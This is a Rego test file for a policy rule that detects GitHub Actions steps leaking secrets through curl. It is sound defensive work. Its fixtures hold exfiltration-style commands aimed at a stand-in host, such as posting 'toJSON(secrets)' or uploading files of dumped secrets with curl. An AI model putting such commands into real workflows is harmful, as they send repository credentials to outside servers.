package github_actions.curl_secrets_test

import data.github_actions.curl_secrets as rule
import data.lib.fix

_workflow(script) := {"on": "push", "jobs": {"build": {"steps": [{"run": script}]}}}

_finding(what) := {
	"message": sprintf("job \"build\", step 1 %s", [what]),
	"at": ["jobs", "build", "steps", 0, "run"],
}

test_finds_secrets_on_the_command_line if {
	every script in [
		"curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\" https://a.example",
		"curl -u 'a:${{secrets.PASSWORD}}' https://a.example",
		"make && curl -X POST -s --data \"${{ toJSON(secrets) }}\" https://a.example > /dev/null",
		"curl \\\n  -d token=${{ secrets['token'] }} \\\n  https://a.example",
		"A=$(curl https://a.example?key=${{ format('{0}', 1) && secrets.KEY || 'a' }})",
		"curl ${{ inputs.flags }} https://${{ Secrets.HOST }}/",
	] {
		fix.bare(rule.deny) == {_finding("puts a secret on the command line of curl")} with input as _workflow(script)
	}
}

test_finds_files_of_secrets_that_are_uploaded if {
	every script in [
		"echo \"${{ toJSON(secrets) }}\" > .secrets\ncurl -X POST -s --data \"@.secrets\" https://a.example > /dev/null",
		"echo ${{ secrets.A }} >> ./a.txt; curl -T a.txt https://a.example",
		"echo ${{ secrets.A }} | base64 > x && printf '%s' ${{ secrets.B }} > a.txt && curl -F f=@a.txt https://a.example",
		"echo ${{ secrets.A }} > a && curl --data-binary @./a https://a.example",
	] {
		fix.bare(rule.deny) == {_finding("uploads a file of secrets by curl")} with input as _workflow(script)
	}
}

test_accepts_secrets_that_go_another_way if {
	every script in [
		"curl --config - https://a.example <<< \"header = \\\"Authorization: Bearer $TOKEN\\\"\"",
		"curl --config - https://a.example <<< 'user = ${{ secrets.USER }}'",
		"curl -H \"Authorization: Bearer $TOKEN\" https://a.example",
		"curl -fsSL https://a.example | ./login ${{ secrets.TOKEN }}",
		"echo '${{ secrets.TOKEN }}' > key && curl -d @body https://a.example",
		"echo curl ${{ secrets.TOKEN }}",
		"# curl ${{ secrets.TOKEN }}",
		"curl https://a.example/${{ inputs.secrets }}",
		"curl https://a.example/${{ env.my_secrets.a }}",
		"wget --header='${{ secrets.TOKEN }}' https://a.example",
	] {
		rule.deny == set() with input as _workflow(script)
	}
}

test_accepts_odd_shapes_and_other_kinds if {
	every file in [_workflow(null), _workflow(["curl ${{ secrets.A }}"]), {"jobs": {"a": {"run": "curl ${{ secrets.A }}"}}}, {"kind": "Pod"}] {
		rule.deny == set() with input as file
	}
}
